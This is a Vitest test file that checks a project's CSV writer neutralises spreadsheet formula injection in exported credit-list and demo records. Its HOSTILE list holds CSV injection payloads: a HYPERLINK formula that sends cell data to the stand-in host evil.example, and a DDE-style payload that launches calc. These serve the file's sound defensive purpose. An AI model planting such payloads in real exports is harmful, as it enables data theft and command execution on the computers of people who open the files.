import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/domain/csv.ts';
import { RECORD_FIELDS, toCsv } from '../../src/credit/export.ts';
import { csvLine as demoCsvLine } from '../../src/demo/record-format.ts';

// Issue 13 item 12: no CSV the project writes can carry a live formula.

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula neutralisation', () => {
  it('prefixes every cell starting with = + - @ tab or CR with an apostrophe', () => {
    for (const v of HOSTILE) {
      const cell = csvCell(v);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unquoted).toBe(`'${v}`);
    }
  });

  it('leaves ordinary values alone and still quotes commas, quotes and line breaks', () => {
    expect(csvLine(['北京三快在线科技有限公司', 12000, null, '2026-11-03', 'a,b', 'say "hi"', '1-2'])).toBe(
      '北京三快在线科技有限公司,12000,,2026-11-03,"a,b","say ""hi""",1-2',
    );
  });

  it('the credit-list export neutralises a hostile firm name and basis', () => {
    const row = Object.fromEntries(RECORD_FIELDS.map((f) => [f, ''])) as Record<string, unknown>;
    row['对象名称'] = HOSTILE[0];
    row['列入事由'] = '@cmd';
    const csv = toCsv(RECORD_FIELDS, [row]);
    const line = csv.split('\r\n')[1]!;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(line).toContain(",'@cmd,");
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('the demo files use the same writer', () => {
    expect(demoCsvLine(['=1+1', 'ok'])).toBe("'=1+1,ok");
  });
});
